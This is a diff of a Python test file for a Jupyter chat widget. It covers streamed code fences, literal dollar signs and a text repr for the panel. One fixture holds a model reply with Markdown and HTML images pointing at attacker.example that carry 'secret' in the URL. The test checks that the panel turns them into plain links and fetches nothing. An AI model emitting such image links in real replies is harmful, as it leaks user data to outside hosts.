@@ -14,10 +14,11 @@ from typing import Any
 import pytest
 
 from ipychat import tokens
+from ipychat.markdown import LITERAL_DOLLAR
 from ipychat.session import ChatSession, Settings, reset_session
 from ipychat.testing import FakeOpenAIServer
 from ipychat.types import Estimate
-from ipychat.widget import ChatPanel, _close_fences, estimate_text, panel
+from ipychat.widget import ChatPanel, estimate_text, panel
 
 LONG_REPLY = " ".join(f"word{i}" for i in range(60))
 
@@ -65,8 +66,12 @@ def slow_session(server: FakeOpenAIServer, tmp_path: Any, **settings: Any) -> Ch
 
 def transcript(p: ChatPanel) -> str:
     """The Markdown the front end is given (the thread's history, then the reply in flight)."""
-    parts = [o["data"]["text/markdown"] for out in (p.history, p.live) for o in out.outputs]
-    return "\n\n".join(parts)
+    return "\n\n".join(_data(p, "text/markdown"))
+
+
+def _data(p: ChatPanel, mime: str) -> list[str]:
+    boxes = (p.history, p.live)
+    return [o["data"][mime] for box in boxes for out in box.children for o in out.outputs]
 
 
 def error(p: ChatPanel) -> str:
@@ -158,9 +163,68 @@ def test_an_8000_token_draft_is_estimated_at_once(
     assert "with history" in p.estimate.value
 
 
-def test_a_half_streamed_code_block_is_closed_before_the_footer() -> None:
-    assert _close_fences("```python\nprint(1)") == "```python\nprint(1)\n```"
-    assert _close_fences("```\nx\n```\ndone") == "```\nx\n```\ndone"
+def test_a_half_streamed_code_block_is_closed_before_the_footer(tmp_path: Any) -> None:
+    with FakeOpenAIServer(
+        reply="```python\nprint(1)\n" + LONG_REPLY, tokens_per_second=40
+    ) as server:
+        session = slow_session(server, tmp_path)
+        p = panel(session)
+        try:
+            p.prompt.value = "code please"
+            p.send.click()
+            live = wait_for(
+                lambda: "word3" in transcript(p) and "streaming" in transcript(p) and transcript(p),
+                "a half-streamed code block",
+            )
+            reply, footer = live.split("<sub>")
+            assert reply.rstrip().endswith("```") and reply.count("```") == 2
+            assert "streaming" in footer
+        finally:
+            p.close()
+            reset_session(None)
+
+
+MONEY_REPLY = (
+    "Revenue grew from $1,200 in January to $1,850 in March, and $x^2$ stays math.\n\n"
+    "![chart](https://attacker.example/c.png?d=secret) <img src=https://attacker.example/i.png>"
+)
+
+
+def test_replies_in_the_panel_show_amounts_as_written_and_fetch_nothing(tmp_path: Any) -> None:
+    with FakeOpenAIServer(reply=MONEY_REPLY) as server:
+        session = slow_session(server, tmp_path)
+        p = panel(session)
+        try:
+            p.prompt.value = "Sales cost $5 and $7?"
+            p.send.click()
+            text = wait_for(
+                lambda: "thread main (1 turn)" in transcript(p) and transcript(p), "the reply"
+            )
+            dollar = LITERAL_DOLLAR
+            assert f"from {dollar}1,200 in January to {dollar}1,850 in March" in text
+            assert "$x^2$ stays math" in text
+            assert f"> Sales cost {dollar}5 and {dollar}7?" in text
+            assert "![" not in text and "<img" not in text
+            assert (
+                "[image: chart (attacker.example)](https://attacker.example/c.png?d=secret)" in text
+            )
+            # The widget's text/plain is what was written, for exports.
+            plain = "\n".join(_data(p, "text/plain"))
+            assert "from $1,200 in January to $1,850 in March" in plain
+        finally:
+            p.close()
+            reset_session(None)
+
+
+def test_the_panel_has_a_readable_text_repr(
+    session: ChatSession, make_panel: Callable[..., ChatPanel]
+) -> None:
+    p = make_panel()
+    session.ask("hello")
+    bundle = p._repr_mimebundle_()
+    assert bundle is not None and "application/vnd.jupyter.widget-view+json" in bundle
+    assert bundle["text/plain"].startswith("ipychat chat panel · thread main (1 turn) · spent $")
+    assert "HBox" not in bundle["text/plain"] and "children" not in bundle["text/plain"]
 
 
 # ----- sending, streaming, stopping ----------------------------------------------------------
